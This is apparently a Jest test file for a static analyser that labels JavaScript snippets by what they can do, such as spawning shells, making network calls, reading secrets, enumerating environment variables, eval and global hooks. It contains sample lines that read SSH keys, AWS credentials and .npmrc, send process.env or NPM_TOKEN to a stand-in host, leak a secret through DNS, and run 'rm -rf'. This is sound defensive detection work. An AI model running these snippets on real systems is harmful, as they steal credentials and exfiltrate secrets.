// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the cases are code in which templates stand.
import { describe, expect, it } from '@jest/globals'
import { told } from './abilities-of.js'

const cases: Readonly<Record<string, readonly (readonly [code: string, ...expected: string[]])[]>> = {
  shell: [
    ["require('child_process').spawn('npm', ['i', name])", 'shell: child_process.spawn = npm i …'],
    ["require('child_process').execSync(`rm -rf ${dir}`)", 'shell: child_process.execSync = rm -rf …'],
    ["require('child_process')[method]('id')", 'shell: child_process.[…] = id'],
    ["import { execa } from 'execa'; execa('ls', ['-l'])", 'shell: execa.execa = ls -l'],
    ["import { $ } from 'zx'; $`ls`", 'shell: zx.$ = ls'],
    ["Bun.spawn(['ls', '-l'])", 'shell: Bun.spawn = ls -l'],
    ["new Deno.Command('ls')", 'shell: Deno.Command = ls'],
    ["require('shelljs').exec('ls')", 'shell: shelljs.exec = ls'],
    ["require('cross-spawn').sync('ls')", 'shell: cross-spawn.sync = ls'],
    ["require('shelljs').echo('ls')"],
    ['class Bun { static spawn() {} } Bun.spawn()'],
  ],
  network: [
    ["fetch('https://a.example/x')", 'network: fetch = https://a.example/x'],
    ["globalThis['fe' + 'tch']('https://a.example')", 'network: fetch = https://a.example'],
    ['window.fetch(`https://a.example/${id}`)', 'network: fetch = https://a.example/…'],
    [
      "const s = document.createElement('script'); s.setAttribute('src', 'https://a.example/x.js'); s.setAttribute('async', '')",
      'network: script.src = https://a.example/x.js',
    ],
    [
      'document.write(\'<script async src="https://a.example/x.js"></script><p>\')',
      'network: script.src = https://a.example/x.js',
    ],
    ["document.write('<p>done</p>')"],
    [
      "const { request } = require('https'); request({ hostname: 'a.example', path: '/x' })",
      'network: https.request = a.example/x',
    ],
    [
      "(secure ? https : http).get('http://a.example'); var http = require('http'), https = require('https')",
      'network: https.get = http://a.example',
    ],
    [
      "const http = require('http'); const t = { a: http }; t[key].request('http://a.example')",
      'network: http.request = http://a.example',
    ],
    ["import axios from 'axios'; axios.post('https://a.example', x)", 'network: axios.post = https://a.example'],
    ["require('axios')({ url: 'https://a.example' })", 'network: axios = https://a.example'],
    [
      "const x = new XMLHttpRequest(); x.open('POST', 'https://a.example')",
      'network: XMLHttpRequest',
      'network: XMLHttpRequest().open = https://a.example',
    ],
    ["new WebSocket('wss://a.example')", 'network: WebSocket = wss://a.example'],
    ["navigator.sendBeacon('https://a.example', data)", 'network: navigator.sendBeacon = https://a.example'],
    ["new Image().src = 'https://a.example/?' + c", 'network: img.src'],
    [
      "const s = document.createElement('script'); s.src = 'https://a.example/x.js'",
      'network: script.src = https://a.example/x.js',
    ],
    ['this.mailer.sendMail({ to })', 'network: sendMail'],
    ["require('got').get('https://a.example').json()", 'network: got.get = https://a.example'],
    [
      "const f = globalThis.fetch; const g = f.bind(globalThis); g('https://a.example')",
      'network: fetch = https://a.example',
    ],
    ["import fetch from 'node-fetch'; fetch('https://a.example')", 'network: node-fetch = https://a.example'],
    ["require('http').STATUS_CODES[404]"],
    ["require('http').METHODS.map((m) => m)"],
    ["require('http').createServer(() => {}).listen(80)"],
    ["require('axios').isAxiosError(e)"],
    ['function f(fetch) { return fetch("https://a.example") }'],
    ['this.fetch("x"); repo.fetch("x"); const fetch = makeFetch(); fetch("x")'],
    ["if (typeof fetch === 'function') x()"],
    ["import http from 'http'; import https from 'node:https'"],
  ],
  dns: [
    ["require('dns').lookup(`${secret}.a.example`, cb)", 'dns: dns.lookup = ….a.example'],
    ["import { resolve4 } from 'dns/promises'; resolve4('a.example')", 'dns: dns.resolve4 = a.example'],
    [
      "const { Resolver } = require('dns'); new Resolver().resolveTxt('a.example')",
      'dns: dns.Resolver().resolveTxt = a.example',
    ],
    ["require('dns').setDefaultResultOrder('ipv4first')"],
  ],
  socket: [
    ["require('net').connect(4444, 'a.example')", 'socket: net.connect = a.example'],
    ["require('tls').connect({ host: 'a.example', port: 1 })", 'socket: tls.connect = a.example'],
    ["require('dgram').createSocket('udp4')", 'socket: dgram.createSocket = udp4'],
    ["require('net').isIP('1.2.3.4')"],
  ],
  'file-write': [
    ["require('fs').writeFileSync('/tmp/x', y)", 'file-write: fs.writeFileSync = /tmp/x'],
    [
      "import { promises as fs } from 'fs'; fs.writeFile(path.join(__dirname, 'x'), y); import path from 'path'",
      'file-write: fs.writeFile = ./x',
    ],
    ["import { copyFile } from 'node:fs/promises'; copyFile(a, '/etc/hosts')", 'file-write: fs.copyFile = /etc/hosts'],
    ["require('fs-extra').outputFile('x', y)", 'file-write: fs.outputFile = x'],
    ["require('fs').readFileSync('x'); require('fs').existsSync('x')"],
  ],
  'file-delete': [
    ["require('fs').rmSync(__filename)", 'file-delete: fs.rmSync = ./__filename'],
    ["require('rimraf')('/tmp/x')", 'file-delete: rimraf = /tmp/x'],
    ["await (await import('fs')).promises.unlink('x')", 'file-delete: fs.unlink = x'],
    ['map.remove(key); new Set().delete(key)'],
  ],
  'sensitive-read': [
    [
      "const fs = require('fs'), os = require('os'), path = require('path'); fs.readFileSync(path.join(os.homedir(), '.npmrc'))",
      'sensitive-read: .npmrc = ~/.npmrc',
    ],
    [
      'const fs = require("fs"); fs.readFileSync(`${process.env.HOME}/.ssh/id_rsa`)',
      'environment: process.env.HOME',
      'sensitive-read: .ssh = ~/.ssh/id_rsa',
    ],
    [
      "import fs from 'fs/promises'; for (const p of ['.aws/credentials']) fs.readFile(home + p)",
      'sensitive-read: .aws named = .aws/credentials',
    ],
    ["require('fs').createReadStream('/etc/passwd')", 'sensitive-read: /etc/passwd = /etc/passwd'],
    [
      "require('fs').readFileSync('LnNzaC9pZF9yc2E=' && Buffer.from('LnNzaC9pZF9yc2E=', 'base64').toString())",
      'sensitive-read: .ssh = .ssh/id_rsa',
    ],
    ["const doc = 'Put it into your .npmrc file'; require('fs').readFileSync('x')"],
    ["const ignored = ['.npmrc']"],
    ["require('fs').readFileSync('./config.json')"],
  ],
  environment: [
    ['process.env.NPM_TOKEN', 'environment: process.env.NPM_TOKEN'],
    ["process['e' + 'nv']['CI']", 'environment: process.env.CI'],
    ['const { env } = process; env.CI', 'environment: process.env.CI'],
    ['const { CI, HOME: home } = process.env', 'environment: process.env.CI', 'environment: process.env.HOME'],
    ["import process from 'node:process'; process.env.CI", 'environment: process.env.CI'],
    ['process.env[name]', 'environment: process.env.[…]'],
    ['configure(process.env)', 'environment: process.env'],
    ["process.env.NODE_ENV === 'production'"],
    ["process.env.FOO = 'x'; delete process.env.FOO"],
    ['const process = { env: {} }; process.env.CI'],
    ['config.process.env.CI'],
  ],
  'environment-enumeration': [
    ['Object.keys(process.env)', 'environment-enumeration: process.env by Object.keys'],
    ['const e = process.env; Object.entries(e).map(send)', 'environment-enumeration: process.env by Object.entries'],
    ['JSON.stringify(process.env)', 'environment-enumeration: process.env by JSON.stringify'],
    ['const e = process.env; JSON.stringify({ host, e })', 'environment-enumeration: process.env by JSON.stringify'],
    ['send({ ...process.env })', 'environment-enumeration: process.env copied by spread'],
    ['const data = Object.assign({}, process.env)', 'environment-enumeration: process.env copied by Object.assign'],
    ['for (const k in process.env) x.push(k)', 'environment-enumeration: process.env by for-in'],
    [
      'const { PATH, ...rest } = process.env',
      'environment: process.env.PATH',
      'environment-enumeration: process.env copied by rest',
    ],
    [
      'Object.keys(process.env).filter((k) => /TOKEN|SECRET/.test(k))',
      'environment-enumeration: process.env by Object.keys, filtered by names of secrets',
    ],
    [
      'Object.keys(process.env).filter((key) => /^debug_/i.test(key))',
      'environment-enumeration: process.env by Object.keys, own names only: debug_',
    ],
    [
      "for (const k in process.env) if (k.startsWith('npm_config_')) x(k)",
      'environment-enumeration: process.env by for-in, own names only: npm_config_',
    ],
    [
      'for (const [k, v] of Object.entries(process.env)) { const own = k.match(/^PAD_(.+)_ENABLED$/); if (own) x(own, v) }',
      'environment-enumeration: process.env by Object.entries, own names only: PAD_',
    ],
    [
      'for (const [k, v] of Object.entries(process.env)) if (/token/i.test(k)) x(v)',
      'environment-enumeration: process.env by Object.entries, filtered by names of secrets',
    ],
    [
      "const own = (value, key) => key.startsWith('PAD_'); require('lodash').pickBy(process.env, own)",
      'environment-enumeration: process.env by lodash.pickBy, own names only: PAD_',
    ],
    [
      "require('lodash').pickBy(process.env, (value, key) => /token/i.test(key))",
      'environment-enumeration: process.env by lodash.pickBy, filtered by names of secrets',
    ],
    [
      "Object.keys(process.env).reverse().find((key) => key.toUpperCase() === 'PATH')",
      'environment-enumeration: process.env by Object.keys, own names only: PATH',
    ],
    [
      'Object.keys(process.env).find((e) => "PATH" === e.toUpperCase())',
      'environment-enumeration: process.env by Object.keys, own names only: PATH',
    ],
    [
      "Object.keys(process.env).find((key) => key.toUpperCase() === 'NPM_TOKEN')",
      'environment-enumeration: process.env by Object.keys, filtered by names of secrets',
    ],
    [
      "for (const key in process.env) if (key.startsWith('PAD_')) out[`process.env.${key}`] = 1",
      'environment-enumeration: process.env by for-in, own names only: PAD_',
    ],
    [
      'run(x, { env: { ...process.env, A: 1 } })',
      'environment-enumeration: process.env copied by spread, for a child process',
    ],
    [
      'const env = ok ? Object.assign({}, process.env, x) : {}',
      'environment-enumeration: process.env copied by Object.assign, for a child process',
    ],
    [
      "fetch('https://a.example', { body: process.env })",
      'network: fetch = https://a.example',
      'environment-enumeration: process.env by fetch',
    ],
    ['Object.assign(process.env, parsed)'],
    ['Object.keys(config.env)'],
  ],
  eval: [
    ["eval('1')", 'eval: eval = 1'],
    ['(0, eval)(code)', 'eval: eval'],
    ["new Function('a', 'return a')", 'eval: Function = return a'],
    ["[]['filter']['constructor']('x()')()", 'eval: Function = x()'],
    ["(async () => {}).constructor('x()')", 'eval: Function = x()'],
    ["thing.constructor.constructor('x()')()", 'eval: Function = x()'],
    ["setTimeout('x()', 10)", 'eval: setTimeout with text = x()'],
    ["module._compile(code, 'x')", 'eval: Module._compile'],
    ["const m = new Module('x'); m._compile(code, 'x')", 'eval: Module._compile'],
    ["require('module').prototype._compile.call(module, code, 'x')", 'eval: module.prototype._compile'],
    ["const m = new module.constructor(); m[words[7]](code, '')", 'eval: module().[…]'],
    ["import('data:text/javascript,x()')", 'eval: import of data: = data:text/javascript,x()'],
    ["Function('return this')().x"],
    ['function f(Function) { return new Function(x) }'],
    ['obj.eval("x"); ({ eval: 1 }).eval'],
    ['setTimeout(() => {}, 10); setTimeout(next, 10)'],
    ['x.constructor("a"); this.constructor(name)'],
    [
      'const { call } = Function.prototype; const f = Function.call.bind(Function.prototype[Symbol.hasInstance]); f(a, b)',
    ],
  ],
  vm: [
    ["require('vm').runInThisContext('1')", 'vm: vm.runInThisContext = 1'],
    ["import vm from 'node:vm'; new vm.Script(code)", 'vm: vm.Script'],
    ["require('vm').isContext(x)"],
  ],
  'dynamic-require': [
    ['require(name)', 'dynamic-require: require'],
    ['import(`./plugins/${name}.js`)', 'dynamic-require: import = ./plugins/….js'],
    ["require('./locale/en'); import('./x.js')"],
    ['require.resolve(name)'],
  ],
  'native-addon': [
    ["require('./build/x.node')", 'native-addon: require of .node = ./build/x.node'],
    ["process.dlopen(module, '/tmp/x.so')", 'native-addon: process.dlopen = /tmp/x.so'],
    ["require('bindings')('x')", 'native-addon: bindings = x'],
    ["require('node-gyp-build')(__dirname)", 'native-addon: node-gyp-build = .'],
    ["process.binding('spawn_sync')", 'native-addon: process.binding = spawn_sync'],
    [
      "process.binding('spawn_sync').spawn({ file: 'sh' })",
      'shell: process.binding().spawn',
      'native-addon: process.binding = spawn_sync',
    ],
    ["require('./x.node.js'); f.bind(process)"],
  ],
  'wasm, worker': [
    ['WebAssembly.instantiate(bytes)', 'wasm: WebAssembly.instantiate'],
    ["new (require('worker_threads').Worker)('./w.js')", 'worker: worker_threads.Worker = ./w.js'],
    ["new Worker(new URL('./w.js', import.meta.url))", 'worker: Worker = ./w.js'],
    ["navigator.serviceWorker.register('/sw.js')", 'worker: navigator.serviceWorker.register = /sw.js'],
    ["typeof WebAssembly === 'object'; new MyWorker('x'); const { isMainThread } = require('worker_threads')"],
  ],
  'crypto-wallet': [
    [
      "window.ethereum.request({ method: 'eth_requestAccounts' })",
      'crypto-wallet: ethereum.request',
      'crypto-wallet: eth_requestAccounts',
    ],
    ["provider.request({ method: 'eth_' + 'sendTransaction', params })", 'crypto-wallet: eth_sendTransaction'],
    ['const p = window.ethereum', 'crypto-wallet: ethereum'],
    ['window.solana.connect()', 'crypto-wallet: solana.connect'],
    ['const ethereum = chain(); ethereum.request(x)'],
    ["client.request({ method: 'tools/list' })"],
  ],
  'process-control': [
    [
      "const c = require('child_process').spawn('x', [], { detached: true, stdio: 'ignore', windowsHide: true }); c.unref()",
      'shell: child_process.spawn = x',
      'process-control: detached',
      'process-control: windowsHide',
      'process-control: stdio ignore',
      'process-control: child.unref',
    ],
    ['process.kill(pid)', 'process-control: process.kill'],
    ['timer.unref(); process.exit(1)'],
  ],
  'timer-send': [
    [
      "setInterval(() => fetch('https://a.example'), 1000)",
      'timer-send: setInterval',
      'network: fetch = https://a.example',
    ],
    [
      "setTimeout(beat, 10); function beat() { send() } function send() { fetch('https://a.example') }",
      'timer-send: setTimeout',
      'network: fetch = https://a.example',
    ],
    [
      "setTimeout(() => controller.abort(), 10); function f() { return fetch('https://a.example') }",
      'network: fetch = https://a.example',
    ],
    ['setInterval(tick, 1000); function tick() {}'],
  ],
  hooks: [
    ['globalThis.fetch = mine', 'global-hook: fetch'],
    ['exports.install = () => { globalThis.fetch = undici.exports.fetch }', 'global-hook: fetch by a namesake'],
    ["import WebSocket from 'ws'\nglobal.WebSocket = WebSocket", 'global-hook: WebSocket by the package ws'],
    ["const { fetch } = require('undici')\nglobalThis.fetch = fetch", 'global-hook: fetch by the package undici'],
    ["import { request } from 'undici'\nglobalThis.fetch = request", 'global-hook: fetch'],
    ["import own from './ws.js'\nglobal.WebSocket = own", 'global-hook: WebSocket'],
    [
      'const f = window.fetch; window.fetch = function (...a) { return f(...a) }',
      'global-hook: fetch',
      'network: fetch',
    ],
    ['XMLHttpRequest.prototype.open = mine', 'global-hook: XMLHttpRequest.prototype.open'],
    ["require('https').request = mine", 'global-hook: https.request'],
    ["Object.defineProperty(window, 'ethereum', { value: mine })", 'global-hook: ethereum'],
    ['Object.assign(globalThis, { fetch: mine })', 'global-hook: fetch'],
    ["import Module from 'module'; Module._load = mine", 'module-hook: module._load'],
    ["require('module').prototype.require = mine", 'module-hook: module.prototype.require'],
    ["require.extensions['.js'] = mine", 'module-hook: require.extensions..js'],
    ['if (!globalThis.fetch) globalThis.fetch = mine', 'global-hook: fetch where missing'],
    ["if (typeof fetch === 'undefined') { globalThis.fetch = mine }", 'global-hook: fetch where missing'],
    ['self.fetch || (self.fetch = mine)', 'global-hook: fetch where missing'],
    ['globalThis.fetch ??= mine', 'global-hook: fetch where missing'],
    [
      '"function" != typeof globalThis.fetch && Object.defineProperty(globalThis, "fetch", { value: mine })',
      'global-hook: fetch where missing',
    ],
    ['api.fetch = mine; this.fetch = mine; exports.fetch = mine'],
    ['globalThis.myLibrary = mine; console.log = mine'],
  ],
  publish: [
    [
      "require('child_process').execSync('npm publish --access public')",
      'shell: child_process.execSync = npm publish --access public',
      'publish: npm publish = npm publish --access public',
    ],
    [
      "require('fs').writeFileSync('.github/workflows/x.yml', y)",
      'file-write: fs.writeFileSync = .github/workflows/x.yml',
      'publish: .github/workflows = .github/workflows/x.yml',
    ],
    ['octokit.rest.repos.createOrUpdateFileContents({})', 'publish: createOrUpdateFileContents'],
    [
      "fetch('https://registry.example/x', { method: 'PUT', body })",
      'network: fetch = https://registry.example/x',
      'publish: PUT to a registry = https://registry.example/x',
    ],
    ["require('child_process').execSync('npm ls')", 'shell: child_process.execSync = npm ls'],
    ['ax.createTree(); emitter.publish(x)'],
  ],
  'token-use': [
    ['/gh[ops]_[A-Za-z0-9]{36}/.test(x)', 'token-use: pattern gh[ops]_'],
    ["const t = 'npm_[A-Za-z0-9]{36}'", 'token-use: text npm_['],
    [
      "fetch('https://a.example', { headers: { a: process.env.NPM_TOKEN } })",
      'network: fetch = https://a.example',
      'environment: process.env.NPM_TOKEN',
      'token-use: process.env.NPM_TOKEN',
    ],
    ["line.includes(':_authToken=')", 'token-use: text _authToken'],
    ["const a = 'npm_config_registry', b = 'high_'"],
  ],
}

describe.each(Object.entries(cases))('%s', (_family, rows) => {
  it.each(rows.map(([code, ...expected]) => ({ code, expected })))('$code', ({ code, expected }) => {
    expect([...told(code)].sort()).toEqual([...expected].sort())
  })

  it('has cases of both kinds', () => {
    expect(rows.some(([, ...expected]) => expected.length > 0)).toBe(true)
    expect(rows.some(([, ...expected]) => expected.length === 0)).toBe(true)
  })
})
